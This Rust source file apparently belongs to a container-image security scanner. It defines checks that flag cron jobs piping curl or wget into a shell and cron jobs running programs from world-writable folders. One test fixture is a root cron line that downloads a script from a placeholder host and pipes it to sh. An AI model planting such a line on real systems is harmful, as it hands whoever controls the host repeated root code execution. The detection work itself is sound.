//! What runs by itself (`crontab(5)`).

use plimsoll_model::Severity;

use crate::baseline::{Answer, Check, Hit, Image, Judge, formats::words};

const BASE: Check = Check::of("cron");

/// See the module.
pub(crate) static CHECKS: &[Check] = &[
    Check {
        id: "baseline-cron-download",
        severity: Severity::High,
        title: "cron runs what it downloads",
        why: "Whoever controls the address, or the way to it, runs commands in every container, again and again.",
        advice: "Put what is to run into the image; download data only, and verify it.",
        judge: Judge::Rule(download),
        fails: &["//- /etc/crontab\n*/5 * * * * root curl -s http://x.test/a | sh\n"],
        passes: &["//- /etc/crontab\n*/5 * * * * root /usr/bin/true\n"],
        ..BASE
    },
    Check {
        id: "baseline-cron-temporary",
        severity: Severity::High,
        title: "cron runs a program out of a folder that everybody can write to",
        why: "Every user can put another program there, which then runs as root.",
        advice: "Move the program to /usr/local/sbin.",
        judge: Judge::Rule(temporary),
        fails: &["//- /etc/cron.d/x\n* * * * * root /tmp/job.sh\n"],
        passes: &["//- /etc/cron.d/x\n* * * * * root /usr/local/sbin/job.sh > /tmp/log\n"],
        ..BASE
    },
];

/// Commands with file and line; schedules and user names stay in front, which does no harm here.
fn commands<'a>(image: &Image<'a>) -> Vec<(&'a str, u32, String)> {
    let mut out = Vec::new();
    for glob in [
        "etc/crontab",
        "etc/anacrontab",
        "etc/cron.*/*",
        "var/spool/cron/**",
        "etc/periodic/*/*",
        "etc/crontabs/*",
    ] {
        for (_, text) in image.matching(glob) {
            for (line, command) in words::lines(&text.text, &['#'], true) {
                out.push((text.path.as_str(), line, command));
            }
        }
    }
    out
}

fn download(image: &Image<'_>, answer: &mut Answer) {
    for (path, line, command) in commands(image) {
        answer.applies();
        let mut parts = command.split('|');
        let first = parts.next().unwrap_or_default();
        let fetches =
            first.split(|c: char| !c.is_alphanumeric()).any(|word| matches!(word, "curl" | "wget"));
        let runs = parts.any(|part| {
            let program = part.split_whitespace().find(|word| !matches!(*word, "sudo" | "exec"));
            let program = program.and_then(|p| p.rsplit('/').next()).unwrap_or_default();
            matches!(
                program,
                "sh" | "bash"
                    | "ash"
                    | "dash"
                    | "zsh"
                    | "python"
                    | "python3"
                    | "perl"
                    | "php"
                    | "node"
            )
        });
        if fetches && runs {
            answer.fail(Hit::line(path, line, command));
        }
    }
}

fn temporary(image: &Image<'_>, answer: &mut Answer) {
    for (path, line, command) in commands(image) {
        answer.applies();
        let mut before = "";
        for word in command.split_whitespace() {
            let is_program =
                ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|folder| word.starts_with(folder));
            // The first word of a command, or what an interpreter is given; never what output goes to.
            let is_start = before.is_empty()
                || before.parse::<u32>().is_ok()
                || matches!(
                    before,
                    "*" | "root"
                        | "sh"
                        | "bash"
                        | "/bin/sh"
                        | "/bin/bash"
                        | "python3"
                        | "&&"
                        | ";"
                        | "."
                        | "exec"
                )
                || before.starts_with(['*', '@']);
            if is_program && is_start {
                answer.fail(Hit::line(path, line, command.as_str()));
                break;
            }
            before = word;
        }
    }
}
